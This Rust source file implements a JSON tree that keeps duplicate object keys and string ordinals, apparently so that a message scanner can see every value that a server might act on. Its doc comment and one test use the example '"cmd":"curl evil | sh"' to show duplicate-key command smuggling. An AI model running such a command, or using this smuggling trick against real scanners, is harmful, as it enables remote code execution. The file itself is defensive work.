//! A borrowed JSON tree that keeps every member of an object, duplicates included.
//!
//! `serde_json::Value` keeps only the last of two equal keys, so a message carrying
//! `{"cmd":"ls","cmd":"curl evil | sh"}` would show the scanner one command and the server
//! (whose parser may keep the first) another. This tree is built by a `DeserializeSeed` over
//! `MapAccess`, so every key/value pair is seen; strings borrow from the message when they
//! contain no escapes. Every string (key or value) carries its *ordinal*: its position among
//! all string literals of the parsed slice in document order, which is how redaction finds the
//! literal to rewrite without re-serialising the document.
//!
//! May not: accept anything `serde_json` rejects (lone surrogates, bad escapes), nest deeper
//! than [`MAX_DEPTH`], or allocate for strings that need no unescaping.

use serde::de::{self, DeserializeSeed, Deserializer, MapAccess, SeqAccess, Visitor};
use std::borrow::Cow;
use std::cell::Cell;
use std::fmt;

/// How deeply arrays and objects may nest inside the parsed slice before extraction refuses.
///
/// Kept below `serde_json`'s own recursion limit (128) so that our typed error fires first.
pub const MAX_DEPTH: usize = 100;

/// A JSON string with its ordinal among the slice's string literals.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Str<'a> {
    /// The decoded text.
    pub text: Cow<'a, str>,
    /// Zero-based position among all string literals (keys and values) in document order.
    pub ordinal: u32,
}

impl Str<'_> {
    /// The same string, owning its text.
    pub fn into_owned(self) -> Str<'static> {
        Str {
            text: Cow::Owned(self.text.into_owned()),
            ordinal: self.ordinal,
        }
    }
}

/// One JSON value. Objects keep members in order, duplicates included.
#[derive(Debug, Clone, PartialEq)]
pub enum Node<'a> {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// Any number, kept as its canonical decimal text (only used for pin hashing).
    Number(String),
    /// A string.
    Str(Str<'a>),
    /// An array.
    Array(Vec<Node<'a>>),
    /// An object: every member in document order, duplicate keys included.
    Object(Vec<(Str<'a>, Node<'a>)>),
}

impl<'a> Node<'a> {
    /// The JSON type name, for error messages.
    pub fn type_name(&self) -> &'static str {
        match self {
            Node::Null => "null",
            Node::Bool(_) => "boolean",
            Node::Number(_) => "number",
            Node::Str(_) => "string",
            Node::Array(_) => "array",
            Node::Object(_) => "object",
        }
    }

    /// The members of an object (empty for anything else).
    pub fn members(&self) -> &[(Str<'a>, Node<'a>)] {
        match self {
            Node::Object(m) => m,
            _ => &[],
        }
    }

    /// Every value stored under `key` in an object, in document order.
    pub fn get_all<'s>(&'s self, key: &'s str) -> impl Iterator<Item = &'s Node<'a>> + 's {
        self.members()
            .iter()
            .filter(move |(k, _)| k.text == key)
            .map(|(_, v)| v)
    }

    /// The last value stored under `key` (what JavaScript's `JSON.parse` would keep).
    pub fn get_last(&self, key: &str) -> Option<&Node<'a>> {
        self.members()
            .iter()
            .rev()
            .find(|(k, _)| k.text == key)
            .map(|(_, v)| v)
    }

    /// The same tree, owning all its text.
    pub fn into_owned(self) -> Node<'static> {
        match self {
            Node::Null => Node::Null,
            Node::Bool(b) => Node::Bool(b),
            Node::Number(n) => Node::Number(n),
            Node::Str(s) => Node::Str(s.into_owned()),
            Node::Array(items) => Node::Array(items.into_iter().map(Node::into_owned).collect()),
            Node::Object(members) => Node::Object(
                members
                    .into_iter()
                    .map(|(k, v)| (k.into_owned(), v.into_owned()))
                    .collect(),
            ),
        }
    }

    /// The text of a string node.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Node::Str(s) => Some(&s.text),
            _ => None,
        }
    }
}

/// Why a slice could not be parsed into a tree.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TreeError {
    /// A `\uD800`-style escape without its pair (or another invalid escape in a string).
    InvalidString(String),
    /// Arrays/objects nested deeper than [`MAX_DEPTH`].
    TooDeep,
    /// Not JSON at all.
    Syntax(String),
}

/// Parses a JSON slice into a [`Node`] tree.
///
/// JSON puts no bound on numbers, but `serde_json` refuses those beyond `f64` (`1e999`). A
/// message carrying one is valid and must not be refused as unscannable, so it is parsed from a
/// copy in which each such number reads `0`: numbers carry no text to scan, string ordinals
/// are unchanged (redaction still finds its literals in the original), and only pin hashing
/// sees the `0`.
pub fn parse(json: &str) -> Result<Node<'_>, TreeError> {
    match parse_exact(json) {
        Err(TreeError::Syntax(msg)) if msg.contains("number out of range") => {
            parse_exact(&tame_numbers(json)).map(Node::into_owned)
        }
        other => other,
    }
}

/// `json` with every number token outside strings that overflows `f64` replaced by `0`.
fn tame_numbers(json: &str) -> String {
    let b = json.as_bytes();
    let mut out = String::with_capacity(json.len());
    let (mut i, mut copied) = (0, 0);
    while i < b.len() {
        match b[i] {
            b'"' => {
                i += 1;
                while i < b.len() && b[i] != b'"' {
                    i += if b[i] == b'\\' { 2 } else { 1 };
                }
                i += 1;
            }
            b'-' | b'0'..=b'9' => {
                let start = i;
                while i < b.len() && matches!(b[i], b'-' | b'+' | b'.' | b'e' | b'E' | b'0'..=b'9')
                {
                    i += 1;
                }
                let token = &json[start..i];
                if token.parse::<f64>().is_ok_and(|v| !v.is_finite()) {
                    out.push_str(&json[copied..start]);
                    out.push('0');
                    copied = i;
                }
            }
            _ => i += 1,
        }
    }
    out.push_str(json.get(copied..).unwrap_or(""));
    out
}

fn parse_exact(json: &str) -> Result<Node<'_>, TreeError> {
    let counter = Cell::new(0u32);
    let mut de = serde_json::Deserializer::from_str(json);
    let node = NodeSeed {
        depth: 0,
        counter: &counter,
    }
    .deserialize(&mut de)
    .map_err(classify)?;
    de.end().map_err(classify)?;
    Ok(node)
}

const TOO_DEEP: &str = "sentinel: nesting too deep";

fn classify(e: serde_json::Error) -> TreeError {
    let msg = e.to_string();
    if msg.contains(TOO_DEEP) || msg.contains("recursion limit") {
        TreeError::TooDeep
    } else if msg.contains("surrogate")
        || msg.contains("escape")
        || msg.contains("unicode code point")
        || msg.contains("control character")
    {
        TreeError::InvalidString(msg)
    } else {
        TreeError::Syntax(msg)
    }
}

struct NodeSeed<'c> {
    depth: usize,
    counter: &'c Cell<u32>,
}

impl<'c> NodeSeed<'c> {
    fn next_ordinal(&self) -> u32 {
        let n = self.counter.get();
        self.counter.set(n.saturating_add(1));
        n
    }
    fn child(&self) -> NodeSeed<'c> {
        NodeSeed {
            depth: self.depth + 1,
            counter: self.counter,
        }
    }
}

impl<'de, 'c> DeserializeSeed<'de> for NodeSeed<'c> {
    type Value = Node<'de>;
    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<Node<'de>, D::Error> {
        d.deserialize_any(self)
    }
}

impl<'de, 'c> Visitor<'de> for NodeSeed<'c> {
    type Value = Node<'de>;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("any JSON value")
    }
    fn visit_unit<E: de::Error>(self) -> Result<Node<'de>, E> {
        Ok(Node::Null)
    }
    fn visit_bool<E: de::Error>(self, v: bool) -> Result<Node<'de>, E> {
        Ok(Node::Bool(v))
    }
    fn visit_i64<E: de::Error>(self, v: i64) -> Result<Node<'de>, E> {
        Ok(Node::Number(v.to_string()))
    }
    fn visit_u64<E: de::Error>(self, v: u64) -> Result<Node<'de>, E> {
        Ok(Node::Number(v.to_string()))
    }
    fn visit_f64<E: de::Error>(self, v: f64) -> Result<Node<'de>, E> {
        Ok(Node::Number(v.to_string()))
    }
    fn visit_borrowed_str<E: de::Error>(self, v: &'de str) -> Result<Node<'de>, E> {
        Ok(Node::Str(Str {
            ordinal: self.next_ordinal(),
            text: Cow::Borrowed(v),
        }))
    }
    fn visit_str<E: de::Error>(self, v: &str) -> Result<Node<'de>, E> {
        Ok(Node::Str(Str {
            ordinal: self.next_ordinal(),
            text: Cow::Owned(v.to_owned()),
        }))
    }
    fn visit_string<E: de::Error>(self, v: String) -> Result<Node<'de>, E> {
        Ok(Node::Str(Str {
            ordinal: self.next_ordinal(),
            text: Cow::Owned(v),
        }))
    }
    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Node<'de>, A::Error> {
        if self.depth >= MAX_DEPTH {
            return Err(de::Error::custom(TOO_DEEP));
        }
        let mut items = Vec::new();
        while let Some(item) = seq.next_element_seed(self.child())? {
            items.push(item);
        }
        Ok(Node::Array(items))
    }
    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Node<'de>, A::Error> {
        if self.depth >= MAX_DEPTH {
            return Err(de::Error::custom(TOO_DEEP));
        }
        let mut members = Vec::new();
        while let Some(key) = map.next_key_seed(KeySeed {
            counter: self.counter,
        })? {
            let value = map.next_value_seed(self.child())?;
            members.push((key, value));
        }
        Ok(Node::Object(members))
    }
}

struct KeySeed<'c> {
    counter: &'c Cell<u32>,
}

impl<'de, 'c> DeserializeSeed<'de> for KeySeed<'c> {
    type Value = Str<'de>;
    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<Str<'de>, D::Error> {
        d.deserialize_str(self)
    }
}

impl<'de, 'c> KeySeed<'c> {
    fn make(&self, text: Cow<'de, str>) -> Str<'de> {
        let n = self.counter.get();
        self.counter.set(n.saturating_add(1));
        Str { text, ordinal: n }
    }
}

impl<'de, 'c> Visitor<'de> for KeySeed<'c> {
    type Value = Str<'de>;
    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("an object key")
    }
    fn visit_borrowed_str<E: de::Error>(self, v: &'de str) -> Result<Str<'de>, E> {
        Ok(self.make(Cow::Borrowed(v)))
    }
    fn visit_str<E: de::Error>(self, v: &str) -> Result<Str<'de>, E> {
        Ok(self.make(Cow::Owned(v.to_owned())))
    }
    fn visit_string<E: de::Error>(self, v: String) -> Result<Str<'de>, E> {
        Ok(self.make(Cow::Owned(v)))
    }
}

/// The byte range (quotes included) of the `n`-th string literal in a valid JSON slice.
///
/// Relies on the slice having been validated by [`parse`]: outside strings a `"` always opens
/// a literal, and inside one a backslash always escapes the next byte.
pub fn nth_string_literal(json: &str, n: u32) -> Option<std::ops::Range<usize>> {
    let bytes = json.as_bytes();
    let mut pos = 0usize;
    let mut seen = 0u32;
    loop {
        let start = pos + memchr::memchr(b'"', bytes.get(pos..)?)?;
        let mut i = start + 1;
        let end = loop {
            let off = memchr::memchr2(b'"', b'\\', bytes.get(i..)?)?;
            i += off;
            if bytes[i] == b'\\' {
                i += 2;
            } else {
                break i;
            }
        };
        if seen == n {
            return Some(start..end + 1);
        }
        seen += 1;
        pos = end + 1;
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn numbers_beyond_f64_are_parsed_not_refused() {
        let json = r#"{"n":1e999,"s":"x\"1e999","m":-2E+400,"k":[1.5,"y"]}"#;
        let node = super::parse(json).unwrap();
        let strings: Vec<(&str, u32)> = node
            .members()
            .iter()
            .filter_map(|(_, v)| match v {
                super::Node::Str(s) => Some((s.text.as_ref(), s.ordinal)),
                _ => None,
            })
            .collect();
        // The string that merely contains "1e999" is untouched and ordinals are unchanged.
        assert_eq!(strings, vec![("x\"1e999", 2)]);
        assert_eq!(node.get_last("n"), Some(&super::Node::Number("0".into())));
        assert_eq!(
            super::tame_numbers(r#"[1e999,2,"3e999"]"#),
            r#"[0,2,"3e999"]"#
        );
    }

    use super::*;

    fn strings<'a>(n: &'a Node<'a>, out: &mut Vec<(u32, String)>) {
        match n {
            Node::Str(s) => out.push((s.ordinal, s.text.to_string())),
            Node::Array(a) => a.iter().for_each(|x| strings(x, out)),
            Node::Object(m) => {
                for (k, v) in m {
                    out.push((k.ordinal, k.text.to_string()));
                    strings(v, out);
                }
            }
            _ => {}
        }
    }

    #[test]
    fn duplicate_keys_are_all_kept() {
        let t = parse(r#"{"cmd":"ls","cmd":"curl evil | sh"}"#).unwrap();
        let all: Vec<_> = t.get_all("cmd").filter_map(Node::as_str).collect();
        assert_eq!(all, vec!["ls", "curl evil | sh"]);
        assert_eq!(
            t.get_last("cmd").and_then(Node::as_str),
            Some("curl evil | sh")
        );
    }

    #[test]
    fn ordinals_follow_document_order_and_match_literals() {
        let src = r#"{"a":["x\n",{"b\"q":"y"}],"n":1.5,"c":"\u00e9"}"#;
        let t = parse(src).unwrap();
        let mut out = Vec::new();
        strings(&t, &mut out);
        assert_eq!(out.len(), 7);
        for (i, (ord, text)) in out.iter().enumerate() {
            assert_eq!(*ord as usize, i);
            let r = nth_string_literal(src, *ord).unwrap();
            let decoded: String = serde_json::from_str(&src[r]).unwrap();
            assert_eq!(&decoded, text);
        }
        assert_eq!(nth_string_literal(src, 7), None);
    }

    #[test]
    fn unescaped_strings_borrow() {
        let t = parse(r#"{"k":"plain"}"#).unwrap();
        match t.get_last("k") {
            Some(Node::Str(s)) => assert!(matches!(s.text, Cow::Borrowed(_))),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn lone_surrogate_is_typed() {
        assert!(matches!(
            parse(r#"{"k":"\ud800"}"#),
            Err(TreeError::InvalidString(_))
        ));
        assert!(matches!(
            parse(r#"{"\udc00":1}"#),
            Err(TreeError::InvalidString(_))
        ));
    }

    #[test]
    fn deep_nesting_is_typed() {
        let deep = format!("{}{}", "[".repeat(MAX_DEPTH + 1), "]".repeat(MAX_DEPTH + 1));
        assert_eq!(parse(&deep), Err(TreeError::TooDeep));
        let ok = format!("{}{}", "[".repeat(MAX_DEPTH), "]".repeat(MAX_DEPTH));
        assert!(parse(&ok).is_ok());
        let very = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
        assert_eq!(parse(&very), Err(TreeError::TooDeep));
    }

    #[test]
    fn syntax_errors_are_typed() {
        assert!(matches!(parse("{\"a\":"), Err(TreeError::Syntax(_))));
        assert!(matches!(parse("{} x"), Err(TreeError::Syntax(_))));
    }
}
